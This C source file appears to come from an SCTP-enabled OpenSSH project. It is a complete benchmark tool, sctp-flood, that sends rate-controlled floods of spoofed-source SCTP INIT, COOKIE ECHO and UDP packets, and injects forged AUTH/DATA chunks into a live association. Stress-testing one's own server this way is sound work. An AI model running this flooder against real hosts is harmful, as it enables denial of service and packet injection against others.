/*
 * Copyright (c) 2026 The openssh-sctp authors.
 *
 * Permission to use, copy, modify, and distribute this software for any
 * purpose with or without fee is hereby granted, provided that the above
 * copyright notice and this permission notice appear in all copies.
 *
 * THE SOFTWARE IS PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES
 * WITH REGARD TO THIS SOFTWARE INCLUDING ALL IMPLIED WARRANTIES OF
 * MERCHANTABILITY AND FITNESS. IN NO EVENT SHALL THE AUTHOR BE LIABLE FOR
 * ANY SPECIAL, DIRECT, INDIRECT, OR CONSEQUENTIAL DAMAGES OR ANY DAMAGES
 * WHATSOEVER RESULTING FROM LOSS OF USE, DATA OR PROFITS, WHETHER IN AN
 * ACTION OF CONTRACT, NEGLIGENCE OR OTHER TORTIOUS ACTION, ARISING OUT OF
 * OR IN CONNECTION WITH THE USE OR PERFORMANCE OF THIS SOFTWARE.
 */

/*
 * sctp-flood: handshake floods against an SCTP port (the seeds' attack
 * T5), for the benchmark of sshd under them.  IPv4, raw socket with
 * IP_HDRINCL (root), so that any source address can be given.
 *
 *   sctp-flood KIND SRC DST PORT RATE SECONDS
 *
 * sends RATE packets a second for SECONDS to DST PORT, each from SRC (an
 * address, or a.b.c.0/24 for a random host of that /24 per packet) and a
 * random source port, and prints "sent N packets, B bytes (IP)".  KIND:
 *   init       an INIT (random tag and TSN, 10 streams each way)
 *   long-init  an INIT with 160 parameters of an unknown type the
 *              receiver must report back (top bits 11, RFC 9260 3.2.1),
 *              1300 bytes in all: the INIT ACK carries the INIT in its
 *              cookie and the report besides
 *   cookie     a COOKIE ECHO with a random tag and 200 random bytes: the
 *              receiver must verify a cookie that is not its own
 *   udp        not SCTP: a UDP datagram of 8 random bytes (checksum 0,
 *              allowed over IPv4), e.g. against a UDP forward, each from a
 *              new source
 *   auth-data  into an existing association (the seeds' T19): an AUTH
 *              chunk of key FLOOD_KEYID and HMAC algorithm FLOOD_HMAC (1
 *              SHA-1, 3 SHA-256) with random bytes for the HMAC, then a
 *              DATA chunk of 100 random bytes, TSNs from FLOOD_TSN on;
 *              source port FLOOD_SPORT, verification tag FLOOD_TAG (as an
 *              attacker on the path reads them off the association's
 *              packets); SRC must be the peer's address
 * The checksum is CRC32c (RFC 9260 appendix A), computed here.
 */

#include <sys/types.h>
#include <sys/socket.h>

#include <netinet/in.h>
#include <netinet/ip.h>
#include <arpa/inet.h>

#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define PKT_MAX		1500
#define LONG_PARAMS	160

static uint32_t crc_table[256];

/* auth-data: what the attacker read off the association */
static struct {
	uint16_t	sport, keyid, hmac;
	uint32_t	tag, tsn;
} assoc;

static void
crc_init(void)
{
	uint32_t c;
	int i, k;

	for (i = 0; i < 256; i++) {
		c = i;
		for (k = 0; k < 8; k++)
			c = (c & 1) ? (c >> 1) ^ 0x82f63b78 : c >> 1;
		crc_table[i] = c;
	}
}

static uint32_t
crc32c(const uint8_t *p, size_t len)
{
	uint32_t c = 0xffffffff;

	while (len-- > 0)
		c = crc_table[(c ^ *p++) & 0xff] ^ (c >> 8);
	return ~c;
}

static void
put16(uint8_t *p, uint16_t v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static void
put32(uint8_t *p, uint32_t v)
{
	p[0] = v >> 24;
	p[1] = v >> 16;
	p[2] = v >> 8;
	p[3] = v;
}

static uint32_t
rnd32(void)
{
	return ((uint32_t)random() << 16) ^ (uint32_t)random();
}

/* The packet's CRC32c, little-endian on the wire as Linux writes it. */
static size_t
put_crc(uint8_t *p, size_t len)
{
	uint32_t crc = crc32c(p, len);

	p[8] = crc;
	p[9] = crc >> 8;
	p[10] = crc >> 16;
	p[11] = crc >> 24;
	return len;
}

static void
put_random(uint8_t *p, size_t len)
{
	while (len-- > 0)
		*p++ = random();
}

/* auth-data: an AUTH chunk with a random HMAC, then a DATA chunk. */
static size_t
make_auth_data(uint8_t *p)
{
	size_t len = 12, hl = assoc.hmac == 3 ? 32 : 20;

	put16(p, assoc.sport);
	put32(p + 4, assoc.tag);
	p[len] = 0x0f;				/* AUTH */
	put16(p + len + 2, 8 + hl);
	put16(p + len + 4, assoc.keyid);
	put16(p + len + 6, assoc.hmac);
	put_random(p + len + 8, hl);
	len += 8 + hl;				/* 28 or 40: aligned */
	p[len] = 0;				/* DATA, unfragmented */
	p[len + 1] = 0x03;
	put16(p + len + 2, 16 + 100);
	put32(p + len + 4, assoc.tsn++);	/* stream 0, SSN 0, PPID 0 */
	put_random(p + len + 16, 100);
	len += 16 + 100;
	return put_crc(p, len);
}

/* The SCTP packet (common header and one chunk) of KIND; its length. */
static size_t
make_packet(uint8_t *p, const char *kind, uint16_t dport)
{
	size_t len = 12, clen, i;

	memset(p, 0, PKT_MAX - 20);
	put16(p, 1024 + random() % 60000);	/* source port */
	put16(p + 2, dport);
	if (strcmp(kind, "auth-data") == 0)
		return make_auth_data(p);
	if (strcmp(kind, "udp") == 0) {
		put16(p + 4, 16);		/* UDP length; checksum 0 */
		put32(p + 8, rnd32());
		put32(p + 12, rnd32());
		return 16;
	}
	if (strcmp(kind, "cookie") == 0) {
		put32(p + 4, rnd32());		/* a tag it never gave */
		clen = 4 + 200;
		p[len] = 10;			/* COOKIE ECHO */
		for (i = 4; i < clen; i++)
			p[len + i] = random();
	} else {
		/* vtag 0 */
		clen = 20;
		p[len] = 1;			/* INIT */
		put32(p + len + 4, rnd32() | 1);	/* initiate tag */
		put32(p + len + 8, 106496);	/* a_rwnd */
		put16(p + len + 12, 10);	/* outbound streams */
		put16(p + len + 14, 10);	/* inbound streams */
		put32(p + len + 16, rnd32());	/* initial TSN */
		if (strcmp(kind, "long-init") == 0) {
			for (i = 0; i < LONG_PARAMS; i++) {
				/* unknown, "skip and report" */
				put16(p + len + clen, 0xc1f0);
				put16(p + len + clen + 2, 8);
				put32(p + len + clen + 4, rnd32());
				clen += 8;
			}
		}
	}
	put16(p + len + 2, clen);
	len += clen;
	return put_crc(p, len);
}

/* auth-data's association from the environment; -1 if incomplete. */
static int
assoc_from_env(void)
{
	const char *v[5] = { getenv("FLOOD_SPORT"), getenv("FLOOD_TAG"),
	    getenv("FLOOD_KEYID"), getenv("FLOOD_HMAC"), getenv("FLOOD_TSN") };
	int i;

	for (i = 0; i < 5; i++)
		if (v[i] == NULL || *v[i] == '\0')
			return -1;
	assoc.sport = strtoul(v[0], NULL, 0);
	assoc.tag = strtoul(v[1], NULL, 0);
	assoc.keyid = strtoul(v[2], NULL, 0);
	assoc.hmac = strtoul(v[3], NULL, 0);
	assoc.tsn = strtoul(v[4], NULL, 0);
	return assoc.sport == 0 || (assoc.hmac != 1 && assoc.hmac != 3) ?
	    -1 : 0;
}

int
main(int argc, char **argv)
{
	uint8_t pkt[PKT_MAX];
	struct sockaddr_in dst;
	struct in_addr srca;
	struct timespec t0, now;
	const char *kind, *slash;
	char srcbuf[64];
	double secs, rate, elapsed;
	unsigned long sent = 0, bytes = 0, due;
	uint32_t src, net;
	int fd, on = 1, prefix = 0, port;
	size_t len;

	if (argc != 7) {
		fprintf(stderr, "usage: sctp-flood init|long-init|cookie|udp|"
		    "auth-data SRC DST PORT RATE SECONDS\n");
		return 2;
	}
	kind = argv[1];
	if (strcmp(kind, "init") != 0 && strcmp(kind, "long-init") != 0 &&
	    strcmp(kind, "cookie") != 0 && strcmp(kind, "udp") != 0 &&
	    strcmp(kind, "auth-data") != 0) {
		fprintf(stderr, "sctp-flood: unknown kind %s\n", kind);
		return 2;
	}
	if (strcmp(kind, "auth-data") == 0 && assoc_from_env() != 0) {
		fprintf(stderr, "sctp-flood: auth-data needs FLOOD_SPORT, "
		    "FLOOD_TAG, FLOOD_KEYID, FLOOD_HMAC (1 or 3) and "
		    "FLOOD_TSN\n");
		return 2;
	}
	if (strlen(argv[2]) >= sizeof(srcbuf)) {
		fprintf(stderr, "sctp-flood: bad source %s\n", argv[2]);
		return 2;
	}
	snprintf(srcbuf, sizeof(srcbuf), "%s", argv[2]);
	if ((slash = strchr(argv[2], '/')) != NULL) {
		if (strcmp(slash, "/24") != 0) {
			fprintf(stderr, "sctp-flood: only /24 prefixes\n");
			return 2;
		}
		srcbuf[slash - argv[2]] = '\0';
		prefix = 1;
	}
	memset(&dst, 0, sizeof(dst));
	dst.sin_family = AF_INET;
	port = atoi(argv[4]);
	rate = atof(argv[5]);
	secs = atof(argv[6]);
	if (inet_pton(AF_INET, srcbuf, &srca) != 1 ||
	    inet_pton(AF_INET, argv[3], &dst.sin_addr) != 1 ||
	    port < 1 || port > 65535 || rate <= 0 || secs <= 0) {
		fprintf(stderr, "sctp-flood: bad address, port, rate or "
		    "time\n");
		return 2;
	}
	src = ntohl(srca.s_addr);
	net = src & 0xffffff00;
	crc_init();
	srandom(getpid() ^ time(NULL));
	if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) == -1 ||
	    setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on)) == -1) {
		perror("sctp-flood: raw socket");
		return 1;
	}
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		elapsed = (now.tv_sec - t0.tv_sec) +
		    (now.tv_nsec - t0.tv_nsec) / 1e9;
		if (elapsed >= secs)
			break;
		due = elapsed * rate;
		if (sent >= due) {
			usleep(1000);
			continue;
		}
		len = 20 + make_packet(pkt + 20, kind, port);
		/* IPv4 header; Linux fills in its checksum and id */
		memset(pkt, 0, 20);
		pkt[0] = 0x45;
		put16(pkt + 2, len);
		pkt[8] = 64;
		pkt[9] = strcmp(kind, "udp") == 0 ? IPPROTO_UDP :
		    IPPROTO_SCTP;
		put32(pkt + 12, prefix ? net | (1 + random() % 254) : src);
		memcpy(pkt + 16, &dst.sin_addr, 4);
		if (sendto(fd, pkt, len, 0, (struct sockaddr *)&dst,
		    sizeof(dst)) == -1) {
			if (errno == ENOBUFS || errno == EAGAIN)
				continue;
			perror("sctp-flood: sendto");
			return 1;
		}
		sent++;
		bytes += len;
	}
	printf("sent %lu packets, %lu bytes (IP)\n", sent, bytes);
	return 0;
}
